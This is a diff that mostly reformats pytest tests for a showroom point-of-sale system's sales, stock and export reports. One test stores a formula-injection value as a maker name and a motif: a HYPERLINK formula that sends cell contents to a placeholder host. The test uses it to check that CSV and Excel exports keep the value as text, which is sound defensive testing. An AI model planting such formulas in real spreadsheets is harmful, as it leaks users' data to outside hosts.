@@ -50,25 +50,33 @@ def _range(seed: int) -> tuple[date, date]:
 def test_every_dimension_adds_up_to_the_ledger(demo_ledger: Ledger, by: str, seed: int) -> None:
     first, last = _range(seed)
     actor = auth.login(demo_ledger, username="rina", password="demo-rina")  # the treasurer
-    report = reports.sales_report(demo_ledger, actor=actor, first_day=first, last_day=last,
-                                  by=by)
+    report = reports.sales_report(demo_ledger, actor=actor, first_day=first, last_day=last, by=by)
     start, end = day_bounds(first)[0], day_bounds(last)[1]
     with demo_ledger.read() as session:
-        sold = session.scalar(select(func.coalesce(func.sum(SaleLine.amount), 0)).where(
-            SaleLine.sold_at >= start, SaleLine.sold_at < end, SaleLine.training.is_(False)))
-        refunded = session.scalar(select(func.coalesce(func.sum(Refund.total), 0)).where(
-            Refund.refunded_at >= start, Refund.refunded_at < end))
+        sold = session.scalar(
+            select(func.coalesce(func.sum(SaleLine.amount), 0)).where(
+                SaleLine.sold_at >= start, SaleLine.sold_at < end, SaleLine.training.is_(False)
+            )
+        )
+        refunded = session.scalar(
+            select(func.coalesce(func.sum(Refund.total), 0)).where(
+                Refund.refunded_at >= start, Refund.refunded_at < end
+            )
+        )
         per_maker: dict[str, int] = defaultdict(int)
         per_hour: dict[str, int] = defaultdict(int)
         for code, amount, sold_at in session.execute(
-                select(SaleLine.maker_code, SaleLine.amount, SaleLine.sold_at).where(
-                    SaleLine.sold_at >= start, SaleLine.sold_at < end,
-                    SaleLine.training.is_(False))):
+            select(SaleLine.maker_code, SaleLine.amount, SaleLine.sold_at).where(
+                SaleLine.sold_at >= start, SaleLine.sold_at < end, SaleLine.training.is_(False)
+            )
+        ):
             per_maker[code] += amount
             per_hour[f"{to_local(sold_at).hour:02d}"] += amount
-        refund_lines = session.scalar(select(func.coalesce(func.sum(RefundLine.amount), 0))
-                                      .where(RefundLine.refunded_at >= start,
-                                             RefundLine.refunded_at < end))
+        refund_lines = session.scalar(
+            select(func.coalesce(func.sum(RefundLine.amount), 0)).where(
+                RefundLine.refunded_at >= start, RefundLine.refunded_at < end
+            )
+        )
     assert report.total_sales == sold
     assert report.total_refunds == (refunded if by == "payment" else refund_lines)
     assert len({row.key for row in report.rows}) == len(report.rows)
@@ -86,10 +94,15 @@ def test_stock_value_and_aging(demo_ledger: Ledger) -> None:
     actor = auth.login(demo_ledger, username="sari", password="demo-sari")
     rows = reports.stock_by_maker(demo_ledger, actor=actor)
     with demo_ledger.read() as session:
-        expected = {code: (int(pieces), int(value)) for code, pieces, value in session.execute(
-            select(Maker.code, func.sum(Item.on_hand), func.sum(Item.on_hand * Item.price))
-            .join(Item, Item.maker_id == Maker.id).where(Item.on_hand > 0)
-            .group_by(Maker.code))}
+        expected = {
+            code: (int(pieces), int(value))
+            for code, pieces, value in session.execute(
+                select(Maker.code, func.sum(Item.on_hand), func.sum(Item.on_hand * Item.price))
+                .join(Item, Item.maker_id == Maker.id)
+                .where(Item.on_hand > 0)
+                .group_by(Maker.code)
+            )
+        }
         on_shelf = session.scalar(select(func.count()).where(Item.on_hand > 0))
     assert {r.maker_code: (r.pieces, r.value) for r in rows} == expected
     every = reports.stock_aging(demo_ledger, actor=actor)
@@ -102,16 +115,18 @@ def test_stock_value_and_aging(demo_ledger: Ledger) -> None:
 
 def test_top_and_slowest_items(demo_ledger: Ledger) -> None:
     actor = auth.login(demo_ledger, username="sari", password="demo-sari")
-    top, slow = reports.item_ranking(demo_ledger, actor=actor, first_day=date(2026, 10, 1),
-                                     last_day=date(2026, 10, 31), limit=10)
+    top, slow = reports.item_ranking(
+        demo_ledger, actor=actor, first_day=date(2026, 10, 1), last_day=date(2026, 10, 31), limit=10
+    )
     start, end = day_bounds(date(2026, 10, 1))[0], day_bounds(date(2026, 10, 31))[1]
     with demo_ledger.read() as session:
         best = session.execute(
             select(SaleLine.item_code, func.sum(SaleLine.quantity).label("q"))
-            .where(SaleLine.sold_at >= start, SaleLine.sold_at < end,
-                   SaleLine.training.is_(False))
-            .group_by(SaleLine.item_code).order_by(func.sum(SaleLine.quantity).desc())
-            .limit(1)).one()
+            .where(SaleLine.sold_at >= start, SaleLine.sold_at < end, SaleLine.training.is_(False))
+            .group_by(SaleLine.item_code)
+            .order_by(func.sum(SaleLine.quantity).desc())
+            .limit(1)
+        ).one()
     assert top[0].sold == best.q
     assert [r.sold for r in top] == sorted((r.sold for r in top), reverse=True)
     assert all(r.on_hand > 0 for r in slow)
@@ -120,8 +135,13 @@ def test_top_and_slowest_items(demo_ledger: Ledger) -> None:
 
 def test_files_read_back(demo_ledger: Ledger, tmp_path: Path) -> None:
     actor = auth.login(demo_ledger, username="sari", password="demo-sari")
-    report = reports.sales_report(demo_ledger, actor=actor, first_day=date(2026, 10, 1),
-                                  last_day=date(2026, 10, 31), by="technique")
+    report = reports.sales_report(
+        demo_ledger,
+        actor=actor,
+        first_day=date(2026, 10, 1),
+        last_day=date(2026, 10, 31),
+        by="technique",
+    )
     table = tables.sales_table(report)
     for suffix in ("pdf", "csv", "xlsx"):
         tables.write_table(table, tmp_path / f"r.{suffix}")
@@ -145,37 +165,68 @@ def test_files_read_back(demo_ledger: Ledger, tmp_path: Path) -> None:
 
 def test_refusals(showroom: Showroom) -> None:
     with pytest.raises(PermissionDenied):
-        reports.sales_report(showroom.ledger, actor=showroom.cashier, first_day=date(2026, 10, 1),
-                             last_day=date(2026, 10, 2), by="maker")
+        reports.sales_report(
+            showroom.ledger,
+            actor=showroom.cashier,
+            first_day=date(2026, 10, 1),
+            last_day=date(2026, 10, 2),
+            by="maker",
+        )
     with pytest.raises(ValidationError) as backwards:
-        reports.sales_report(showroom.ledger, actor=showroom.supervisor,
-                             first_day=date(2026, 10, 2), last_day=date(2026, 10, 1), by="maker")
+        reports.sales_report(
+            showroom.ledger,
+            actor=showroom.supervisor,
+            first_day=date(2026, 10, 2),
+            last_day=date(2026, 10, 1),
+            by="maker",
+        )
     assert backwards.value.code == "report.bad_range"
     with pytest.raises(ValidationError):
-        reports.sales_report(showroom.ledger, actor=showroom.supervisor,
-                             first_day=date(2026, 10, 1), last_day=date(2026, 10, 2), by="colour")
+        reports.sales_report(
+            showroom.ledger,
+            actor=showroom.supervisor,
+            first_day=date(2026, 10, 1),
+            last_day=date(2026, 10, 2),
+            by="colour",
+        )
 
 
 def test_a_name_that_looks_like_a_formula_stays_text_in_csv_and_excel(
-        sqlite_showroom: Showroom, tmp_path: Path) -> None:
+    sqlite_showroom: Showroom, tmp_path: Path
+) -> None:
     import zipfile
 
     from showroom_pos.services.stock import consignment, makers
     from showroom_pos.services.till import sales
 
     hostile = '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")'
-    makers.add_maker(sqlite_showroom.ledger, actor=sqlite_showroom.staff,
-                     data=MakerInput(code="PKL066", name=hostile))
+    makers.add_maker(
+        sqlite_showroom.ledger,
+        actor=sqlite_showroom.staff,
+        data=MakerInput(code="PKL066", name=hostile),
+    )
     slip = consignment.receive_consignment(
-        sqlite_showroom.ledger, actor=sqlite_showroom.staff, maker_code="PKL066",
-        lines=[IntakeLineInput(1, ItemFields("Taplak cap", "taplak", "cap",
-                                                         150_000, motif=hostile))])
-    sales.complete_sale(sqlite_showroom.ledger, actor=sqlite_showroom.cashier,
-                        terminal_code="K1", lines=[CartLine(slip.lines[0].item_code)],
-                        payments=[PaymentInput("cash", 150_000)])
-    report = reports.sales_report(sqlite_showroom.ledger, actor=sqlite_showroom.supervisor,
-                                  first_day=date(2026, 10, 1), last_day=date(2026, 10, 31),
-                                  by="motif")
+        sqlite_showroom.ledger,
+        actor=sqlite_showroom.staff,
+        maker_code="PKL066",
+        lines=[
+            IntakeLineInput(1, ItemFields("Taplak cap", "taplak", "cap", 150_000, motif=hostile))
+        ],
+    )
+    sales.complete_sale(
+        sqlite_showroom.ledger,
+        actor=sqlite_showroom.cashier,
+        terminal_code="K1",
+        lines=[CartLine(slip.lines[0].item_code)],
+        payments=[PaymentInput("cash", 150_000)],
+    )
+    report = reports.sales_report(
+        sqlite_showroom.ledger,
+        actor=sqlite_showroom.supervisor,
+        first_day=date(2026, 10, 1),
+        last_day=date(2026, 10, 31),
+        by="motif",
+    )
     table = tables.sales_table(report)
     tables.write_table(table, tmp_path / "r.csv")
     tables.write_table(table, tmp_path / "r.xlsx")
